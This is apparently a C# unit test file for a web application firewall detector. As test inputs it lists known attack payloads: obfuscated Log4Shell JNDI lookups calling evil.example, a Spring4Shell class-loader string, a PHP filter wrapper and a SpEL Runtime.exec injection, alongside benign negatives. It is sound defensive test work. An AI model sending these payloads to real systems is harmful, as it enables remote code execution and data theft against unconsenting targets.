using OrleansGateway.Edge.DataPlane.Waf.Detection;

namespace OrleansGateway.Tests.Waf.Detection;

public sealed class KnownBadInputDetectorTests
{
    [Theory]
    [InlineData("${jndi:ldap://evil.example/a}")]
    [InlineData("${${lower:j}ndi:ldap://evil.example/a}")]
    [InlineData("${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}")]
    [InlineData("${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.example/a}")]
    [InlineData("${j${upper:n}di:dns://evil.example}")]
    [InlineData("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}")]
    [InlineData("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")]
    [InlineData("php://filter/convert.base64-encode/resource=index.php")]
    [InlineData("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==")]
    [InlineData("T(java.lang.Runtime).getRuntime().exec('id')")]
    public void Detects_known_bad_inputs(string value) =>
        Assert.True(KnownBadInputDetector.IsKnownBadInput(value), value);

    [Theory]
    [InlineData("${name} is a template variable")]
    [InlineData("${lower:HELLO}")]
    [InlineData("classic.module.loader")]
    [InlineData("https://example.com/")]
    [InlineData("")]
    public void Leaves_ordinary_values_alone(string value) =>
        Assert.False(KnownBadInputDetector.IsKnownBadInput(value), value);

    [Fact]
    public void A_deeply_nested_lookup_costs_a_bounded_amount_of_work()
    {
        var value = string.Concat(Enumerable.Repeat("${", 5000)) + "x" + new string('}', 5000);
        Assert.False(KnownBadInputDetector.IsKnownBadInput(value));
    }
}
